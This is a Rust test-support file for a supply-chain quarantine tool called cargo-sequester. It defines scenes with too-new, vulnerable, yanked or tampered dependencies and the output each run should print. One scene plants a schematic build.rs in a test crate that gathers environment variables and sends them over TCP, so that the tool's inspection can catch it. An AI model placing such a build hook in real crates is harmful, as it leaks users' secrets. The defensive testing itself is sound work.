//! Projects in trouble.

use std::path::Path;

use camino::Utf8PathBuf;
use jiff::{Timestamp, ToSpan as _};
use tempfile::TempDir;

use crate::support::{Advisory, AdvisoryFolder, Outcome, Package, Project, TestRegistry};

/// Old enough for every rule.
pub const OLD: &str = "2025-01-01T00:00:00Z";

/// A project with what is wrong with it, and the runs that are made in it beside those of every scene.
pub struct Scene {
    pub runs: Vec<&'static [&'static str]>,
    /// Whether only those are made.
    pub apart: bool,
    /// What must be among what is printed: a scene that prints nothing shows nothing.
    pub expected: Vec<&'static str>,
    /// The folder of the run, below the project.
    pub folder: &'static str,
    project: Project,
    pub registry: TestRegistry,
    others: Vec<TestRegistry>,
    advisories: AdvisoryFolder,
}

/// A copy of a scene's project, in which one thing is tried.
pub struct Copy<'s> {
    scene: &'s Scene,
    _folder: TempDir,
    root: Utf8PathBuf,
}

/// A day ago: too new for every rule but a security fix's.
fn fresh() -> String {
    let at = cargo_sequester::door::gather::clock::now() - 25.hours();
    Timestamp::from_second(at.as_second()).unwrap().to_string()
}

impl Scene {
    /// A project that uses the registry in crates.io's place, by a policy that says so.
    fn new(expected: &[&'static str]) -> Self {
        let registry = TestRegistry::new();
        let advisories = AdvisoryFolder::new().with(&Advisory::new("RUSTSEC-2025-0001", "unrelated"));
        let project = Project::new();
        let (url, db) = (registry.url(), advisories.root());
        // The machine's configuration: the project's own belongs to `vendor`.
        let config =
            format!("[source.crates-io]\nreplace-with = \"mirror\"\n\n[source.mirror]\nregistry = \"{url}\"\n");
        std::fs::write(project.cargo_home().join("config.toml"), config).unwrap();
        project.write(
            "sequester.toml",
            format!(
                "[advisories]\ndb = {:?}\nmax-copy-age = \"120 months\"\nyanked = \"reject\"\n\n[sources]\nmirrors = [{url:?}]\n",
                db.as_str()
            ),
        );
        Self {
            runs: Vec::new(),
            apart: false,
            expected: expected.to_vec(),
            folder: "",
            project,
            registry,
            others: Vec::new(),
            advisories,
        }
    }

    fn dep(mut self, name: &str, req: &str) -> Self {
        self.project = self.project.dep(name, req);
        self
    }

    fn published(self, name: &str, version: &str, pubtime: &str) -> Self {
        Package::new(name, version).pubtime(pubtime).publish(&self.registry);
        self
    }

    fn advisory(self, advisory: &Advisory) -> Self {
        self.advisories.add(advisory);
        self
    }

    fn run(mut self, run: &'static [&'static str]) -> Self {
        self.runs.push(run);
        self
    }

    fn locked(self) -> Self {
        self.project.lock_with_cargo();
        self
    }

    /// A release locked a day after its publication.
    fn held(self, name: &str) -> Self {
        self.dep(name, "1").published(name, "1.0.0", OLD).published(name, "1.1.0", &fresh())
    }

    /// A locked release with a vulnerability; its fix is old enough, and locked by nobody yet.
    fn vulnerable(self, name: &str, id: &str) -> Self {
        let scene = self.dep(name, "1").published(name, "1.0.0", OLD);
        scene.advisory(&Advisory::new(id, name).date("2025-02-01").patched(">= 1.0.1"))
    }

    fn fixed(self, name: &str) -> Self {
        self.published(name, "1.0.1", "2025-02-02T00:00:00Z")
    }

    /// A locked release with a vulnerability that nothing fixes.
    fn unfixed(self, name: &str, id: &str) -> Self {
        let scene = self.dep(name, "1").published(name, "1.0.0", OLD);
        scene.advisory(&Advisory::new(id, name).date("2025-02-01"))
    }

    fn repository(self) -> Self {
        for arguments in [
            &["init", "-qb", "main"][..],
            &["config", "user.name", "Ana"],
            &["config", "user.email", "ana@example.org"],
            &["add", "-A", "."],
            &["-c", "commit.gpgsign=false", "commit", "-qm", "state"],
        ] {
            self.project.run("git", arguments).expect_code(0);
        }
        self
    }

    pub fn copy(&self) -> Copy<'_> {
        let folder = tempfile::Builder::new().prefix("sequester-pasted-").tempdir().unwrap();
        let root = Utf8PathBuf::try_from(folder.path().canonicalize().unwrap()).unwrap().join("project");
        copy_folder(self.project.root().as_std_path(), root.as_std_path());
        Copy { scene: self, _folder: folder, root }
    }
}

fn copy_folder(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_folder(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

impl Copy<'_> {
    /// What a run tells a person, with colours, on both streams.
    pub fn tell(&self, run: &[&str]) -> String {
        let told = self
            .program(env!("CARGO_BIN_EXE_cargo-sequester"), &[&["sequester"], run, &["--color", "always"]].concat());
        format!("{}{}", told.stdout, told.stderr)
    }

    /// A run of ours.
    pub fn sequester(&self, arguments: &[&str]) -> Outcome {
        self.program(env!("CARGO_BIN_EXE_cargo-sequester"), &[&["sequester"], arguments].concat())
    }

    /// The verdicts on this copy, as `audit` sees them.
    pub fn audit(&self) -> serde_json::Value {
        let outcome = self.sequester(&["audit", "--format", "json"]);
        serde_json::from_str(&outcome.stdout)
            .unwrap_or_else(|error| panic!("{error}\n{}{}", outcome.stdout, outcome.stderr))
    }

    /// A pasted line, by a shell that finds cargo and our program as a user's would.
    pub fn shell(&self, line: &str) -> Outcome {
        self.program("sh", &["-c", line])
    }

    pub fn path(&self, name: &str) -> Utf8PathBuf {
        self.root.join(name)
    }

    pub fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.path(name)).unwrap_or_default()
    }

    fn program(&self, program: &str, arguments: &[&str]) -> Outcome {
        let ours = Utf8PathBuf::from(env!("CARGO_BIN_EXE_cargo-sequester"));
        let mut command = self.scene.project.command(program);
        let path = command.get_envs().find(|(name, _)| *name == "PATH").and_then(|(_, value)| value);
        let path = format!("{}:{}", ours.parent().unwrap(), path.unwrap().to_str().unwrap());
        let output =
            command.env("PATH", path).current_dir(self.root.join(self.scene.folder)).args(arguments).output().unwrap();
        Outcome {
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
            code: output.status.code().unwrap_or(-1),
        }
    }
}

impl Scene {
    /// As on a machine that has cached nothing.
    fn cold(self) -> Self {
        let _ = std::fs::remove_dir_all(self.project.cargo_home().join("registry"));
        self
    }

    fn all_runs(mut self) -> Self {
        self.runs.extend(super::MORE);
        self
    }
}

const FIXED: &str = "RUSTSEC-2025-0101";
const UNFIXED: &str = "RUSTSEC-2025-0103";

pub fn a_release_too_new() -> Scene {
    let expected = ["update one --precise 1.0.0", "approve one@1.1.0 --reason \"TEXT\""];
    Scene::new(&expected).held("one").locked().all_runs()
}

pub fn a_vulnerability_with_a_fix() -> Scene {
    Scene::new(&["update one --precise 1.0.1"]).vulnerable("one", FIXED).locked().fixed("one").all_runs()
}

pub fn a_vulnerability_without_a_fix() -> Scene {
    Scene::new(&["approve one@1.0.0 --id RUSTSEC-2025-0103"]).unfixed("one", UNFIXED).locked().all_runs()
}

pub fn a_fix_a_release_too_new_and_no_fix_at_all() -> Scene {
    let expected = ["update one --precise 1.0.1", "update two --precise 1.0.0", "approve three@1.0.0 --id"];
    let scene = Scene::new(&expected).held("two").unfixed("three", UNFIXED).vulnerable("one", FIXED);
    scene.locked().fixed("one").all_runs().run(&["explain", "two"])
}

pub fn two_vulnerabilities_with_fixes() -> Scene {
    let expected = ["update one --precise 1.0.1", "update two --precise 1.0.1"];
    let scene = Scene::new(&expected).vulnerable("one", FIXED).vulnerable("two", "RUSTSEC-2025-0102");
    scene.locked().fixed("one").fixed("two").run(&["explain", "one"]).run(&["explain", "two"])
}

pub fn a_vulnerable_release_that_a_manifest_pins() -> Scene {
    let scene = Scene::new(&["approve one@1.0.0 --id"]).dep("one", "=1.0.0").published("one", "1.0.0", OLD);
    let scene = scene.advisory(&Advisory::new(FIXED, "one").date("2025-02-01").patched(">= 1.0.1"));
    scene.locked().fixed("one")
}

pub fn two_majors_of_one_crate_one_of_them_vulnerable() -> Scene {
    let mut scene = Scene::new(&["update one@1.0.0 --precise 1.0.1"]).dep("one", "1");
    scene.project = scene.project.dep_toml("other = { package = \"one\", version = \"2\" }");
    let scene = scene.published("one", "1.0.0", OLD).published("one", "2.0.0", OLD);
    let advisory = Advisory::new(FIXED, "one").date("2025-02-01").patched(">= 1.0.1, < 2").patched(">= 2.0.0");
    scene.advisory(&advisory).locked().fixed("one").run(&["explain", "one@1.0.0"])
}

/// Told once, by the name of what stands in; and a single release can be exempted.
pub fn a_mirror_without_times_of_publication() -> Scene {
    let scene = Scene::new(&["approve one@1.0.0", "--until"]).dep("one", "1").dep("two", "1");
    for name in ["one", "two"] {
        Package::new(name, "1.0.0").no_pubtime().publish(&scene.registry);
    }
    let scene = scene.locked();
    let told = scene.copy().sequester(&["audit"]).stdout;
    let mirror = format!("Note {}, which stands in for crates.io, does not say", scene.registry.url());
    assert_eq!(told.matches(&mirror).count(), 1, "{told}");
    scene
}

pub fn a_registry_without_times_of_publication() -> Scene {
    let mut scene = Scene::new(&["min-publish-age = \"0\""]);
    Package::new("one", "1.0.0").no_pubtime().publish(&scene.registry);
    scene.project =
        scene.project.registry("mine", &scene.registry).dep_toml("one = { version = \"1\", registry = \"mine\" }");
    let policy = scene.project.read("sequester.toml").replace("mirrors = ", "allow-registries = ");
    std::fs::write(scene.project.cargo_home().join("config.toml"), "").unwrap();
    scene.project.write("sequester.toml", policy);
    scene.locked()
}

pub fn a_yanked_release() -> Scene {
    let scene = Scene::new(&["approve one@1.0.0", "--until"]).dep("one", "1").published("one", "1.0.0", OLD).locked();
    Package::new("one", "1.0.0").pubtime(OLD).yanked().publish(&scene.registry);
    scene
}

pub fn a_registry_that_the_policy_does_not_name() -> Scene {
    let mut scene =
        Scene::new(&["add to `allow-registries` under [sources]"]).dep("two", "1").published("two", "1.0.0", OLD);
    let other = TestRegistry::new();
    Package::new("one", "1.0.0").pubtime(OLD).publish(&other);
    scene.project = scene.project.registry("mine", &other).dep_toml("one = { version = \"1\", registry = \"mine\" }");
    scene.others.push(other);
    scene.locked()
}

pub fn a_lock_file_without_its_project() -> Scene {
    let scene = Scene::new(&["--lockfile Cargo.lock"]).held("one").locked();
    scene.run(&["audit", "--lockfile", "Cargo.lock"]).run(&["audit", "--lockfile", "Absent.lock"])
}

pub fn no_lock_file() -> Scene {
    Scene::new(&["cargo sequester cargo generate-lockfile"]).held("one").run(&["vendor"])
}

pub fn a_run_from_a_folder_below() -> Scene {
    let mut scene = Scene::new(&["--manifest-path ../Cargo.toml"]).held("one").locked();
    scene.project.write("docs/README", "");
    scene.folder = "docs";
    scene.run(&["audit", "--manifest-path", "../Cargo.toml"])
}

pub fn a_policy_elsewhere() -> Scene {
    let scene = Scene::new(&["--policy policy/strict.toml"]).held("one").locked();
    scene.project.write("policy/strict.toml", scene.project.read("sequester.toml"));
    scene.run(&["audit", "--policy", "policy/strict.toml"])
}

pub fn a_lock_file_that_does_not_answer() -> Scene {
    let mut scene = Scene::new(&["update --workspace"]).dep("two", "1").published("two", "1.0.0", OLD).locked();
    scene.project = scene.project.dep("one", "1");
    scene.published("one", "1.0.0", OLD)
}

pub fn exemptions_that_are_over() -> Scene {
    let scene = Scene::new(&["approve --prune"]).dep("one", "1").published("one", "1.0.0", OLD).locked();
    let approval = |name: &str, until: &str| {
        let zeros = "0".repeat(64);
        format!(
            "\n[[approval]]\ncrate = {name:?}\nversion = \"0.9.0\"\nchecksum = {zeros:?}\nlifts = [\"too-new\"]\n\
             reason = \"read\"\nuntil = {until}\n"
        )
    };
    let policy = scene.project.read("sequester.toml");
    scene.project.write("sequester.toml", policy + &approval("one", "2025-03-01") + &approval("two", "2025-04-01"));
    scene
}

pub fn an_approval_that_waits_for_its_update() -> Scene {
    let scene = Scene::new(&["cargo sequester update one"]).dep("one", "1").published("one", "1.0.0", OLD).locked();
    let scene = scene.published("one", "1.1.0", &fresh());
    scene.project.sequester(&["approve", "one@1.1.0", "--reason", "read", "--by", "Ana"]).expect_code(0);
    scene
}

pub fn a_release_with_something_inside() -> Scene {
    let expected = ["inspect one@1.1.0", "update one --precise 1.0.0", "approve one@1.1.0 --reason \"TEXT\""];
    let scene = Scene::new(&expected).dep("one", "1").published("one", "1.0.0", OLD);
    let sends = "fn main() { let all: Vec<_> = std::env::vars().collect(); std::net::TcpStream::connect(text(all)); }";
    Package::new("one", "1.1.0").pubtime(&fresh()).file("build.rs", sends).publish(&scene.registry);
    let policy = scene.project.read("sequester.toml");
    scene.project.write("sequester.toml", format!("[quarantine]\ninspect = true\n\n{policy}"));
    let scene = scene.locked().all_runs();
    scene.project.sequester(&["inspect", "one"]).expect_code(1);
    scene
}

pub fn an_adoption() -> Scene {
    let scene = Scene::new(&["cargo sequester audit"]).held("one").unfixed("two", UNFIXED).locked();
    scene.run(&["init", "--yes", "--by", "Ana"])
}

/// The machine's own cargo may use the mirror, and no policy says so yet: `init` adopts it.
pub fn no_policy_yet() -> Scene {
    let scene = Scene::new(&["--yes"]).held("one").locked();
    std::fs::remove_file(scene.project.path("sequester.toml")).unwrap();
    Scene { apart: true, ..scene.run(&["init", "--dry-run", "--no-advisories"]) }
}

/// A repository whose origin has a main branch, and which locks a release of `cc` that is a day old.
pub fn what_the_examples_name() -> Scene {
    let scene = Scene::new(&[]).dep("cc", "1").published("cc", "1.2.2", OLD).published("cc", "1.2.3", &fresh());
    let scene = scene.locked().repository();
    scene.project.run("git", &["update-ref", "refs/remotes/origin/main", "HEAD"]).expect_code(0);
    scene
}

/// A registry in the place of crates.io that no policy allows.
pub fn a_mirror_that_the_policy_does_not_allow() -> Scene {
    let scene =
        Scene::new(&["add to `mirrors` under [sources]"]).dep("one", "1").published("one", "1.0.0", OLD).locked();
    let policy = scene.project.read("sequester.toml");
    let without: Vec<&str> = policy.lines().filter(|line| !line.starts_with("mirrors")).collect();
    scene.project.write("sequester.toml", without.join("\n"));
    scene
}

pub fn a_change_on_a_base() -> Scene {
    let scene = Scene::new(&["approve one@1.1.0"]).dep("two", "1").published("two", "1.0.0", OLD).locked().repository();
    let scene = scene.held("one");
    scene.project.cargo(&["update", "--workspace"]).expect_code(0);
    scene.run(&["audit", "--base", "main"])
}

pub fn offline_with_nothing_cached() -> Scene {
    Scene::new(&["cargo sequester audit"]).held("one").locked().cold().run(&["audit", "--offline"])
}

pub fn vendored_sources_that_were_altered() -> Scene {
    let scene = Scene::new(&["cargo sequester vendor"]).dep("one", "1").published("one", "1.0.0", OLD).locked();
    scene.project.sequester(&["vendor"]).expect_code(0);
    scene.project.write("vendor/one/src/lib.rs", "altered");
    scene.run(&["verify"])
}

pub fn nothing_locked_and_two_things_in_the_way() -> Scene {
    Scene::new(&[]).dep("one", "=1.1.0").published("one", "1.1.0", &fresh()).unfixed("two", UNFIXED)
}

/// Locked, committed, downloaded and built, and only then known to be bad.
pub fn a_release_that_turned_out_to_be_bad() -> Scene {
    let scene = Scene::new(&["cargo sequester update one@1.1.0", "rm -r", "\"one@=1.1.0\""])
        .dep("one", "1")
        .published("one", "1.0.0", OLD)
        .published("one", "1.1.0", OLD)
        .locked()
        .repository()
        .run(&["incident", "one@1.1.0"]);
    scene.project.cargo(&["build"]).expect_code(0);
    scene
}
